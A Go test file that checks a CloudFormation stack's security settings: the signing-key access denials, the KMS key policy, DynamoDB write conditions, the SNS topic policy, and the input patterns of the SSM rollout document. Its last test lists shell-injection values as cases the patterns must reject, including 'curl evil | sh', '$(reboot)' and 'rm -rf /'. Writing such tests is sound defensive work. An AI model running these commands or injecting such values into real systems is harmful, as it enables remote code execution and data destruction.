package infra

import (
	"os"
	"reflect"
	"regexp"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/bansshee/bansshee/proto"
	"gopkg.in/yaml.v3"
)

// stackDoc is the template decoded loosely: resources' properties as plain values.
type stackDoc struct {
	Parameters map[string]any `yaml:"parameters"`
	Resources  map[string]struct {
		Type       string         `yaml:"Type"`
		Properties map[string]any `yaml:"Properties"`
	} `yaml:"Resources"`
}

func loadStack(t *testing.T) stackDoc {
	t.Helper()
	b, err := os.ReadFile("cloudformation/bansshee.yaml")
	if err != nil {
		t.Fatal(err)
	}
	// Short-form intrinsics (!Sub, !GetAtt, ...) decode as their scalar or sequence.
	var doc stackDoc
	if err := yaml.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	return doc
}

// statements returns the policy statements under v (a policy document or anything holding one).
func statements(v any) []map[string]any {
	var out []map[string]any
	switch x := v.(type) {
	case map[string]any:
		if st, ok := x["Statement"].([]any); ok {
			for _, s := range st {
				if m, ok := s.(map[string]any); ok {
					out = append(out, m)
				}
			}
		}
		for k, c := range x {
			if k != "Statement" {
				out = append(out, statements(c)...)
			}
		}
	case []any:
		for _, c := range x {
			out = append(out, statements(c)...)
		}
	}
	return out
}

func list(v any) []string {
	switch x := v.(type) {
	case string:
		return []string{x}
	case []any:
		var out []string
		for _, e := range x {
			out = append(out, list(e)...)
		}
		return out
	case map[string]any:
		var out []string
		for _, e := range x {
			out = append(out, list(e)...)
		}
		return out
	}
	return nil
}

// The signing key is out of the agents' reach (issue 22, finding 5): AmazonSSMManagedInstanceCore,
// which the SSM rollout needs, allows ssm:GetParameter on every parameter, and with the default
// aws/ssm KMS key every instance could read the Ed25519 private key. The agent role denies the
// key parameter explicitly, and the parameter's customer-managed KMS key may be used by the
// Lambda and the key users the operator names, never by the agent role, nor by the account at
// large.
func TestSigningKeyOutOfAgentsReach(t *testing.T) {
	doc := loadStack(t)
	agent := doc.Resources["AgentRole"].Properties
	denied := false
	for _, st := range statements(agent) {
		if st["Effect"] != "Deny" {
			continue
		}
		acts, res := list(st["Action"]), strings.Join(list(st["Resource"]), " ")
		if slices.Contains(acts, "ssm:GetParameter") && slices.Contains(acts, "ssm:GetParameters") && slices.Contains(acts, "ssm:GetParameterHistory") &&
			strings.Contains(res, "parameter${KeyParameterName}") {
			denied = true
		}
	}
	if !denied {
		t.Error("AgentRole has no explicit Deny of ssm:GetParameter(s)/GetParameterHistory on the key parameter")
	}
	key, ok := doc.Resources["SigningKeyKmsKey"]
	if !ok || key.Type != "AWS::KMS::Key" {
		t.Fatal("no customer-managed KMS key (SigningKeyKmsKey) for the signing key parameter")
	}
	use := []string{"kms:Decrypt", "kms:Encrypt", "kms:GenerateDataKey"}
	var lambdaMayDecrypt, agentDenied bool
	for _, st := range statements(key.Properties["KeyPolicy"]) {
		acts, who := list(st["Action"]), strings.Join(list(st["Principal"]), " ")
		touchesUse := slices.ContainsFunc(acts, func(a string) bool { return slices.Contains(use, a) || a == "kms:*" })
		switch {
		case st["Effect"] == "Deny" && strings.Contains(who, "AgentRole.Arn") && slices.Contains(acts, "kms:Decrypt"):
			agentDenied = true
		case st["Effect"] == "Allow" && touchesUse && (strings.Contains(who, ":root") || who == "*"):
			t.Errorf("the key policy lets the whole account (or anyone) use the key: %v", st)
		case st["Effect"] == "Allow" && touchesUse && strings.Contains(who, "AgentRole"):
			t.Errorf("the key policy lets the agent role use the key: %v", st)
		case st["Effect"] == "Allow" && slices.Contains(acts, "kms:Decrypt") && strings.Contains(who, "LambdaRole.Arn"):
			lambdaMayDecrypt = true
		}
	}
	if !lambdaMayDecrypt || !agentDenied {
		t.Errorf("key policy: Lambda may decrypt %v, agent role denied %v", lambdaMayDecrypt, agentDenied)
	}
	// The operator puts the parameter with this key; the template says how.
	b, _ := os.ReadFile("cloudformation/bansshee.yaml")
	if !strings.Contains(string(b), "--key-id alias/${Prefix}-signing-key") && !strings.Contains(string(b), "SigningKeyAlias") {
		t.Error("the stack does not name the key to put the parameter with")
	}
}

// The agent's one write is its status item with exactly the status's attributes and no return
// values (issue 22, finding 12): LeadingKeys alone let it write any attributes.
func TestAgentPutItemLimitedToStatusAttributes(t *testing.T) {
	doc := loadStack(t)
	var want []string
	for _, tp := range []reflect.Type{reflect.TypeOf(proto.AgentStatus{})} {
		for i := 0; i < tp.NumField(); i++ {
			name, _, _ := strings.Cut(tp.Field(i).Tag.Get("dynamodbav"), ",")
			want = append(want, name)
		}
	}
	sort.Strings(want)
	var found bool
	for _, st := range statements(doc.Resources["AgentRole"].Properties) {
		if st["Effect"] != "Allow" || !slices.Contains(list(st["Action"]), "dynamodb:PutItem") {
			continue
		}
		cond, _ := st["Condition"].(map[string]any)
		var attrs, leading, ret []string
		for op, m := range cond {
			mm, _ := m.(map[string]any)
			for k, v := range mm {
				switch k {
				case "dynamodb:Attributes":
					if op == "ForAllValues:StringEquals" {
						attrs = list(v)
					}
				case "dynamodb:LeadingKeys":
					leading = list(v)
				case "dynamodb:ReturnValues":
					if op == "StringEqualsIfExists" || op == "StringEquals" {
						ret = list(v)
					}
				}
			}
		}
		sort.Strings(attrs)
		if !slices.Equal(attrs, want) || len(leading) != 1 || !slices.Equal(ret, []string{"NONE"}) {
			t.Errorf("agent PutItem conditions: attributes %v (want %v), leading keys %v, return values %v", attrs, want, leading, ret)
		}
		found = true
	}
	if !found {
		t.Fatal("no PutItem statement in the agent role")
	}
}

// The alarm topic, whose alarms become bans, takes messages only from this account's CloudWatch
// alarms (issue 22, finding 12).
func TestAlarmTopicHasAPolicy(t *testing.T) {
	doc := loadStack(t)
	var ok bool
	for _, r := range doc.Resources {
		if r.Type != "AWS::SNS::TopicPolicy" || !slices.Contains(list(r.Properties["Topics"]), "AlarmTopic") {
			continue
		}
		for _, st := range statements(r.Properties["PolicyDocument"]) {
			text := strings.Join(list(st), " ")
			if st["Effect"] == "Allow" && slices.Contains(list(st["Action"]), "sns:Publish") &&
				strings.Contains(text, "cloudwatch.amazonaws.com") && strings.Contains(text, "AWS::AccountId") {
				ok = true
			}
			if st["Effect"] == "Allow" && strings.Contains(strings.Join(list(st["Principal"]), " "), "*") && !strings.Contains(text, "AWS::AccountId") {
				t.Errorf("the alarm topic is open: %v", st)
			}
		}
	}
	if !ok {
		t.Fatal("AlarmTopic has no topic policy admitting only this account's CloudWatch alarms")
	}
}

// The rollout document cannot be made to run a shell command, and installs only a package whose
// SHA-256 the operator gave, over HTTPS or S3 (issue 22, finding 12).
func TestSSMDocumentParametersArePinned(t *testing.T) {
	doc := loadStack(t)
	content, _ := doc.Resources["AgentDocument"].Properties["Content"].(map[string]any)
	params, _ := content["parameters"].(map[string]any)
	pattern := func(name string) *regexp.Regexp {
		p, _ := params[name].(map[string]any)
		s, _ := p["allowedPattern"].(string)
		if s == "" {
			t.Fatalf("document parameter %s has no allowedPattern", name)
		}
		return regexp.MustCompile(s)
	}
	base, version, sums := pattern("BaseUrl"), pattern("Version"), pattern("Sha256")
	for _, c := range []struct {
		re   *regexp.Regexp
		v    string
		want bool
	}{
		{base, "https://packages.example.com/bansshee/", true},
		{base, "s3://my-bucket/bansshee/", true},
		{base, "/var/cache/bansshee/", true},
		{base, "http://packages.example.com/bansshee/", false},
		{base, "https://x/'; curl evil | sh; '", false},
		{base, "https://x/$(reboot)/", false},
		{base, "s3://b/a b/", false},
		{version, "1.2.3", true},
		{version, "0.0.0~git1a2b3c4", true},
		{version, "1.0'; rm -rf /; '", false},
		{sums, strings.Repeat("a", 64), true},
		{sums, strings.Repeat("a", 64) + "," + strings.Repeat("0", 64), true},
		{sums, "", false},
		{sums, strings.Repeat("a", 63), false},
	} {
		if got := c.re.MatchString(c.v); got != c.want {
			t.Errorf("%s matches %q = %v, want %v", c.re, c.v, got, c.want)
		}
	}
	script := installScript(t, map[string]string{"BaseUrl": "https://h/", "Version": "1.0.0", "Sha256": strings.Repeat("a", 64)})
	if strings.Contains(script, "http://") || !strings.Contains(script, "sha256sum") {
		t.Errorf("the script still takes http:// or checks no SHA-256:\n%s", script)
	}
}
